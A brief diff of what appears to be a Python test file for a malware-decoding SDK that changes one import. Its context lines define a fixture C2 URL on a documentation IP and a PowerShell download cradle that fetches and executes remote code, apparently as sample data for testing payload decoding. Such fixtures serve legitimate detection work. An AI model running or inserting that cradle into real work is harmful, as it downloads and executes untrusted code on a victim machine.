@@ -15,7 +15,7 @@ import pytest
 from asisdk.decode import unpack
 from asisdk.decode._xor import xor
 
-from .test_finds import check_offsets
+from .builders import check_offsets
 
 C2 = "http://198.51.100.7:8080/news.php"
 CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{C2}')"
